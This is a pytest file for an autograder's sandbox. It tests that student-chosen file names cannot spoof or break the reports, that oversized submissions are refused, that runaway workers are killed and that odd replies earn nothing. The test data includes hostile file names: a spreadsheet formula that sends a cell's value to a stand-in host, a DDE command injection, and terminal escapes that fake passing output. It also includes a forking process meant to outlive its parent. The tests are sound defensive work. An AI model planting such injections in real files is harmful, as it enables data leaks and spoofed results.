"""Run-time guards whose attacks do not fit the corpus shape of tests/test_sandbox.py:
names a student chose, submissions shaped to cost the copy, the grader's own writes to
a worker, its CPU share, and workers that would outlive a grader killed outright.
"""

from __future__ import annotations

import csv
import io
import os
import signal
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

from handgrad.grading import pool, reports, sandbox
from handgrad.grading.grader import FunctionGrade, SubmissionGrade
from handgrad.grading.submission import SubmissionError, check_submission, copy_submission
from tests.corpus.mistakes import correct_source
from tests.test_sandbox import ROOT, attack_processes, needs_sandbox

HOSTILE_NAMES = (
    '=HYPERLINK("evil.example?"&A1,"fine").py',
    "+cmd|' /C calc'!A0.py",
    "@SUM(1+1).py",
    "-2+3.py",
    "\x1b]0;owned\x07\x1b[2J\x1b[32mall PASS\x1b[0m.py",
    "carriage\rreturn.py",
    "new\nline.py",
    "\u202eyp.evil.py",
    os.fsdecode(b"latin1-\xe9t\xe9.py"),  # not UTF-8: the name holds lone surrogates
    "a" * 250 + ".py",  # a legal name that a temporary file beside it would overflow
)


def _grade(path: Path) -> SubmissionGrade:
    functions = (FunctionGrade("relu_grad", 0.0, 1.0, 10, 10, "feedback", "visible", "value"),)
    return SubmissionGrade(path, functions, 1.0, 7, "namespaces", problem=f"The submission was refused: {path}: x",
                           reason="refused")  # fmt: skip


def test_names_a_student_chose_cannot_break_or_spoof_the_reports(tmp_path: Path) -> None:
    grades = [_grade(Path("subs") / name) for name in HOSTILE_NAMES] + [_grade(Path(name)) for name in HOSTILE_NAMES]
    table = reports.marks_csv(grades)
    shown = "\n".join([table, reports.failures(grades), *(reports.text(g) for g in grades)])
    shown.encode("utf-8")  # no lone surrogate: printing or writing it cannot fail
    for bad in ("\x1b", "\r", "\x07", "\u202e"):
        assert bad not in shown
    rows = list(csv.reader(io.StringIO(table)))[1:]
    assert len(rows) == len(grades) and all(len(r) == len(rows[0]) for r in rows)  # one row each
    assert not [r[0] for r in rows if r[0].startswith(("=", "+", "-", "@"))], "a cell a spreadsheet runs"
    assert rows[len(HOSTILE_NAMES)][0] == "'" + HOSTILE_NAMES[0]  # shown, not dropped
    out = tmp_path / "out"
    out.mkdir(mode=0o755)
    target = reports.Target(out)
    names = reports.report_names([g.path for g in grades])
    for g in grades:
        target.write(f"{names[g.path]}.json", reports.json_text(reports.gradescope(g)))
    target.write("marks.csv", table)
    target.close()
    assert len(list(out.iterdir())) == len(grades) + 1
    assert not [p for p in out.iterdir() if p.name.startswith(".")]  # no report hidden or left half-written


def test_printable_keeps_text_and_shows_controls() -> None:
    assert pool.printable("naïve Σ\tx\ny") == "naïve Σ\tx\ny"
    assert pool.printable("a\x1b[2Jb\rc\x00\u202e", newlines=False) == "a\\x1b[2Jb\\rc\\x00\\u202e"
    assert pool.printable(os.fsdecode(b"\xff") + "\ud800\n", newlines=False) == "\\xff\\ud800\\n"


def test_a_submission_shaped_to_cost_the_copy_is_refused(tmp_path: Path) -> None:
    deep = tmp_path / "deep"
    (deep / "pkg").mkdir(parents=True)
    (deep / "pkg" / "__init__.py").write_text(correct_source())
    os.chdir(deep / "pkg")
    try:
        for _ in range(40):
            os.mkdir("d")
            os.chdir("d")
    finally:
        os.chdir(ROOT)
    with pytest.raises(SubmissionError, match="nested more than 16 deep"):
        check_submission(deep / "pkg")
    wide = tmp_path / "wide"
    wide.mkdir()
    (wide / "__init__.py").write_text(correct_source())
    for i in range(300):  # empty folders: no file, no byte, but each a mkdir in the copy
        (wide / f"d{i}").mkdir()
    with pytest.raises(SubmissionError, match="more than 200 files and folders"):
        copy_submission(wide, tmp_path / "wide-copy")
    assert not (tmp_path / "wide-copy" / "d0").exists()  # refused while listed, before copying
    cache = tmp_path / "cache"
    (cache / "__pycache__").mkdir(parents=True)
    (cache / "__init__.py").write_text("x = 1\n")
    for i in range(300):
        (cache / "__pycache__" / f"m{i}.pyc").write_bytes(b"")
    copy_submission(cache, tmp_path / "cache-copy")  # a skipped folder's contents are not listed
    assert sorted(p.name for p in (tmp_path / "cache-copy").iterdir()) == ["__init__.py"]


def test_a_request_to_a_worker_that_stops_reading_times_out() -> None:
    r, w = os.pipe()
    try:
        os.set_blocking(w, False)
        start = time.monotonic()
        with pytest.raises(TimeoutError):
            pool._write_all(w, b"x" * (1 << 20), time.monotonic() + 0.3)  # (a pipe holds 64 KiB)
        assert time.monotonic() - start < 30
        os.set_blocking(r, False)
        assert len(os.read(r, 1 << 20)) >= 4096  # it wrote what fitted before giving up
    finally:
        os.close(r)
        os.close(w)


def test_a_workers_cgroup_caps_its_cpu_at_its_share() -> None:
    if os.geteuid() != 0:
        pytest.skip("cgroups are made by a root grader only")
    group = sandbox.make_cgroup(f"handgrad-{os.getpid()}-cpu-test", 1 << 30, 64, cores=2)
    if group is None:
        pytest.skip("no cgroup can be made here")
    try:
        if group.version == 2:
            cpu_max = group.dirs[0] / "cpu.max"
            if not cpu_max.exists():
                pytest.skip("no cpu controller in this cgroup v2 tree")
            assert cpu_max.read_text().split() == [str(2 * sandbox.PERIOD), str(sandbox.PERIOD)]
        else:
            cpu = [d for d in group.dirs if (d / "cpu.cfs_quota_us").exists()]
            if not cpu:
                pytest.skip("no cpu controller mounted (cgroup v1)")
            assert int((cpu[0] / "cpu.cfs_quota_us").read_text()) == 2 * int((cpu[0] / "cpu.cfs_period_us").read_text())
    finally:
        group.remove()
    assert not [d for d in group.dirs if d.exists()]


GRADER = """
import sys
import handgrad
handgrad.configure_for_checking()
from pathlib import Path
from handgrad.grading.grader import Options, grade
from handgrad.grading.pool import Limits
grade(Path(sys.argv[1]), Options(functions=("relu_grad",), seed=1, scan=False,
      limits=Limits(timeout=8.0, memory=1 << 30, startup=120.0, budget=200.0)))
"""

SLEEPER = """
import ctypes, os, time
if os.fork() == 0:
    ctypes.CDLL(None).prctl(15, b"hgattack", 0, 0, 0)
    time.sleep(120)
    os._exit(0)
time.sleep(120)
"""


@needs_sandbox
def test_workers_die_with_a_grader_killed_outright(tmp_path: Path) -> None:
    """SIGKILL gives the grader no chance to clean up: its workers (a uid change clears
    what unshare --kill-child set) must end anyway, and its cgroups go at the next start."""
    sub = tmp_path / "s.py"
    sub.write_text(correct_source() + SLEEPER)
    env = {**os.environ, "TMPDIR": str(tmp_path)}
    grader = subprocess.Popen([sys.executable, "-c", GRADER, str(sub)], cwd=ROOT, env=env,
                              stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)  # fmt: skip
    try:
        deadline = time.monotonic() + 120
        while not attack_processes(grader.pid) and time.monotonic() < deadline and grader.poll() is None:
            time.sleep(0.1)
        assert attack_processes(grader.pid), "the submission's process never started"
    finally:
        grader.send_signal(signal.SIGKILL)
        grader.wait()
    for _ in range(100):
        if not attack_processes(grader.pid):
            break
        time.sleep(0.05)
    assert attack_processes(grader.pid) == [], "a worker outlived the grader that started it"
    for _ in range(100):  # (its runner, started beside the worker, may take a moment longer to end)
        sandbox._sweep_stale.cache_clear()  # as a new grader starts
        group = sandbox.make_cgroup(f"handgrad-{os.getpid()}-sweep-test", 1 << 30, 64)
        if group is None:
            return
        group.remove()
        stale = [p for d in group.dirs for p in d.parent.glob(f"handgrad-{grader.pid}-*")]
        if not stale:
            break
        time.sleep(0.1)
    assert stale == [], "the cgroups of a grader that is gone were not removed"


def _odd_values(shape: tuple[int, ...]) -> list[object]:
    """Values no formula's truth can equal (7 is no derivative here; NaN and the extremes
    are not the truth on the inputs used)."""
    import ml_dtypes
    import numpy as np

    return [
        np.full(shape, np.nan), np.full(shape, np.inf, np.float16), np.full(shape, 1e308),
        np.full(shape, np.iinfo(np.int64).min), np.zeros(shape, np.uint64) + 7,
        np.zeros(shape, ml_dtypes.bfloat16) + 7, np.zeros((), np.float32) + 7, np.zeros((0,), np.float32),
        np.zeros((*shape, 1), np.float32) + 7, np.zeros((1,) * 32, np.float32) + 7,
        np.zeros((*shape[::-1], 2)) + 7, {"a": np.zeros(shape) + 7}, {},
    ]  # fmt: skip


@pytest.mark.parametrize("name", ["relu_grad", "softmax_vjp", "two_layer_grads"])
def test_a_reply_of_any_dtype_or_shape_earns_nothing_and_raises_nothing(name: str) -> None:
    """What a worker may return (anything the protocol carries) is compared, never trusted:
    NaN, infinities, integer and boolean dtypes, bytes that are not 0/1 as booleans, other
    shapes, dicts for arrays. None passes, and none raises inside the grader."""
    import numpy as np

    import handgrad
    from handgrad.cases import build_cases, expected
    from handgrad.engine import run_case
    from handgrad.evaluate import Output
    from handgrad.grading.grader import grading_device
    from reference.catalog import BY_NAME

    handgrad.configure_for_checking()
    device = grading_device()
    case = build_cases([BY_NAME[name]], devices=[device])[-1]
    want = expected(case, 0)
    shape = (3,) if isinstance(want, dict) else tuple(want.shape)
    values = _odd_values(shape)
    if isinstance(want, dict):  # the right keys, one too many, and arrays in place of the dict
        values += [{k: v.astype("int64") for k, v in want.items()} | {"extra": want[next(iter(want))]}]
        values += [dict.fromkeys(want, values[0])]
    for value in values:
        result = run_case(lambda n, **call: Output(value, frozenset([device])), case, seed=0)  # noqa: B023
        assert not result.ok, (name, value)
    for flags in (np.zeros(shape, np.bool_), np.full(shape, 255, np.uint8).view(np.bool_)):  # (bytes not 0/1)
        run_case(lambda n, **call: Output(flags, frozenset([device])), case, seed=0)  # noqa: B023  (no raise)


def test_a_reader_waits_while_more_time_is_granted_and_stops_when_it_is_not() -> None:
    read_end, write_end = os.pipe()
    try:
        grants = iter([30.0, 0.0])
        reader = pool._DeadlineReader(read_end, lambda: next(grants))
        reader.deadline = time.monotonic() + 0.05
        threading.Timer(0.3, lambda: os.write(write_end, b"x")).start()
        assert reader.read(1) == b"x"  # past its first deadline, within the time granted
        reader.deadline = time.monotonic() + 0.05
        with pytest.raises(TimeoutError):
            reader.read(1)  # nothing granted: the deadline holds
    finally:
        os.close(read_end)
        os.close(write_end)


def test_a_starved_call_is_owed_its_cpu_seconds_and_a_spinning_one_is_not() -> None:
    """The per-call timeout counts the worker's own CPU time (a busy machine must not cost a
    correct student a `timeout`), within STARVED_CAP times the timeout in wall time."""
    sleeper = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"])
    spinner = subprocess.Popen([sys.executable, "-c", "while True: pass"])
    try:
        for _ in range(600):  # until the spinner has used 1 s of CPU, however busy the machine
            if (pool._tree_cpu(spinner.pid) or 0.0) >= 1.0:
                break
            time.sleep(0.1)

        def owed(proc: subprocess.Popen[bytes], timeout: float, started_ago: float) -> float:
            worker = object.__new__(pool.Worker)
            worker.cgroup, worker.proc = None, proc
            worker._call = (0.0, time.monotonic() - started_ago, timeout)
            return worker._more_time()

        assert 0.5 < owed(sleeper, 1.0, 1.0) <= 1.0  # starved: the rest of its CPU second
        assert owed(spinner, 1.0, 1.0) == 0.0  # it used its second: a timeout is its own
        assert owed(sleeper, 1.0, pool.STARVED_CAP * 1.0) == 0.0  # the wall-clock cap holds
    finally:
        for proc in (sleeper, spinner):
            proc.kill()
            proc.wait()
